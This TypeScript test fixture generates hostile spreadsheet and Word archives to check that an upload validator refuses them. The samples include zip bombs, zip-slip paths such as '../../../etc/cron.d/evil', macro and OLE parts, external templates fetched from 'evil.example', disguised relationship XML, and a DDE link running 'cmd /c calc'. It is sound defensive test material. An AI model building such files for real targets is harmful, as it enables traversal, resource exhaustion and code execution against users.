import { deflateRawSync } from 'node:zlib';
import { foreign, type HostileFile, harmlessIn, refusedIn } from './hostile-file.ts';
import { type Changes, docx, OFFICE, RELATION, TYPE, XML, xlsx } from './office.ts';
import { type ZipEntry, zip } from './zip.ts';

const MEGABYTE = 1024 * 1024;
const HTML = Buffer.from('<script>alert(1)</script>');

/** An archive is identified only by its content, so it is opened wherever a workbook or a document is accepted. */
const archives = ['sheet', 'document'] as const;

const built = (name: string, changes: Changes): Buffer => (name.endsWith('docx') ? docx(changes) : xlsx(changes));
const evil = (name: string, changes: Changes, reason: string): HostileFile =>
  refusedIn(archives, 'FILE_HARMFUL', name, built(name, changes), reason);
const damaged = (name: string, bytes: Buffer): HostileFile => refusedIn(archives, 'FILE_DAMAGED', name, bytes);
const entry = (name: string, more: Partial<ZipEntry> = {}): Changes => ({ more: [{ name, data: 'x', ...more }] });

const bombs = (): HostileFile[] => {
  const zeros = Buffer.alloc(100 * MEGABYTE);
  const packed = deflateRawSync(zeros);
  const strings = (more: Partial<ZipEntry> = {}) => entry('xl/sharedStrings.xml', { data: zeros, packed, ...more });
  const crowd = Array.from({ length: 20_000 }, (_, index) => ({ name: `xl/${index}`, data: '' }));
  return [
    evil('bomb.xlsx', strings(), 'bomb'),
    damaged('bomb-that-lies.xlsx', xlsx(strings({ claimedSize: 1000 }))),
    evil('bomb-of-20000-entries.xlsx', { more: crowd }, 'bomb'),
    evil('bomb-of-entries-not-counted.xlsx', { more: crowd.slice(0, 3000), count: 5 }, 'polyglot'),
  ];
};

const wrongArchives = (): HostileFile[] => [
  foreign('plain.zip', zip([{ name: 'a.txt', data: 'a' }])),
  foreign('empty.zip', zip([])),
  evil('zip-slip.xlsx', entry('../../../etc/cron.d/evil'), 'traversal'),
  evil('zip-slip-backslash.xlsx', entry('..\\..\\evil.exe'), 'traversal'),
  evil('zip-absolute.docx', entry('/etc/passwd'), 'traversal'),
  evil('zip-drive.docx', entry('C:/Windows/evil.dll'), 'traversal'),
  evil('zip-symbolic-link.docx', entry('word/link', { mode: 0o120777 }), 'traversal'),
  evil('two-names.docx', entry('word/a.xml', { localName: 'word/b.xml' }), 'polyglot'),
  evil('same-name-twice.docx', entry('word/document.xml'), 'polyglot'),
  evil('html-between.docx', entry('word/a.xml', { after: HTML }), 'polyglot'),
  evil('encrypted-entry.xlsx', entry('xl/secret.xml', { flags: 1 }), 'encrypted'),
  evil('nested.docx', entry('word/media/image1.png', { data: zip([{ name: 'a', data: 'a' }]) }), 'nested'),
  damaged('html-tail.docx', Buffer.concat([docx(), HTML])),
  refusedIn(archives, 'FILE_HARMFUL', 'second-archive.xlsx', Buffer.concat([xlsx(), xlsx()]), 'polyglot'),
  damaged('cut.docx', docx().subarray(0, 700)),
  damaged('wrong-checksum.docx', docx(entry('word/a.xml', { packed: deflateRawSync('y') }))),
];

const relation = (name: string, type: string, target: string): HostileFile =>
  evil(name, { relations: [{ type, target, external: true }] }, 'activeContent');
const link = (name: string, part: string): HostileFile =>
  evil(
    name,
    {
      types: { [part]: `${TYPE}.spreadsheetml.externalLink+xml` },
      ...entry(part, { data: `${XML}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>` }),
    },
    'activeContent',
  );
const typed = (name: string, part: string, type: string, more: Changes = {}): HostileFile =>
  evil(name, { types: { [part]: type }, ...more }, 'activeContent');

/** A relationship encoded so that only a parser recognises it. */
const DISGUISED = `<r:Relationships xmlns:r="${OFFICE}/package/2006/relationships"><r:Relationship Id="a" Type="${RELATION}/image" Target="http:&#47;/evil.example" TargetMode="&#69;xternal"/></r:Relationships>`;
const ENTITIES = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>';

const activeDocuments = (): HostileFile[] => [
  typed('macros.xlsm', 'xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
  typed('macros-named-otherwise.xlsx', 'xl/x.bin', 'application/vnd.ms-office.vbaProject', entry('xl/x.bin')),
  evil('macros.docx', entry('word/vbaProject.bin'), 'activeContent'),
  evil('macro-sheet.xlsx', entry('xl/macrosheets/sheet1.xml'), 'activeContent'),
  evil('embedded-object.docx', entry('word/embeddings/oleObject1.bin'), 'activeContent'),
  relation('template-from-elsewhere.docx', 'attachedTemplate', 'https://evil.example/t.dotm'),
  relation('template-on-a-share.docx', 'attachedTemplate', '\\\\evil\\share\\t.dotm'),
  relation('picture-from-elsewhere.docx', 'image', 'http://evil.example/a.png'),
  relation('workbook-from-elsewhere.xlsx', 'externalLinkPath', 'file://evil/share/b.xlsx'),
  relation('picture-behind-a-blank.docx', 'image', ' http://evil.example/a.png'),
  evil('relation-in-capitals.docx', entry('word/_RELS/document.xml.RELS', { data: DISGUISED }), 'activeContent'),
  relation('linked-object.docx', 'oleObject', 'C:\\evil.xls'),
  evil('disguised-relation.docx', entry('word/_rels/document.xml.rels', { data: DISGUISED }), 'activeContent'),
  link('data-link.xlsx', 'xl/externalLinks/externalLink1.xml'),
  link('data-link-named-otherwise.xlsx', 'xl/a.xml'),
  damaged('entities.docx', docx(entry('word/_rels/a.rels', { data: ENTITIES }))),
];

export const hostileArchives = (): HostileFile[] => [
  ...bombs(),
  ...wrongArchives(),
  ...activeDocuments(),
  harmlessIn(['sheet'], 'one-cell-of-a-huge-sheet.xlsx', xlsx({ dimension: 'A1:XFD1048576' })),
];
